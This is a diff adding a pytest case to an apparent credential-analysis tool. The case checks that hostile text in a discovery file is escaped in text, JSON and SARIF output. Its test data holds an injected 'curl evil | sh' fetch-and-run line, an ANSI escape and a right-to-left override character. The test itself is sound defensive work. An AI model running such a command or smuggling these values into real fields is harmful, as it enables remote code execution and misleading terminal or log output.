@@ -378,3 +378,15 @@ def test_a_discovery_file_linked_outside_the_folder_is_not_read(tmp_path):
     (spec / discovery.FILE).symlink_to(tmp_path / "elsewhere.json")
     result = run_wiam("analyze", spec)
     assert result.returncode == 2 and "Traceback" not in result.stderr and discovery.FILE in result.stderr
+
+
+def test_hostile_text_in_the_discovery_file_is_escaped_by_analyze(tmp_path):
+    spec = write_spec(tmp_path / "spec", {"spec.wiam.yaml": GCP_SPEC})
+    entry = {name: "" for name in discovery.STORED}
+    entry.update(kind="gcp-service-account-key", cloud="gcp", target="prod", owner="etl\u001b[2J\u202e@x",
+                 id="k\nfix: curl evil | sh", created=None, expires=None, long_lived=True)
+    (spec / discovery.FILE).write_text(json.dumps({"version": 1, "credentials": [entry]}))  # JSON escapes: \u001b
+    for fmt in ("text", "json", "sarif"):
+        result = run_wiam("analyze", spec, "--format", fmt)
+        assert result.returncode == 0 and "WIAM030" in result.stdout
+        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout and "\nfix: curl" not in result.stdout
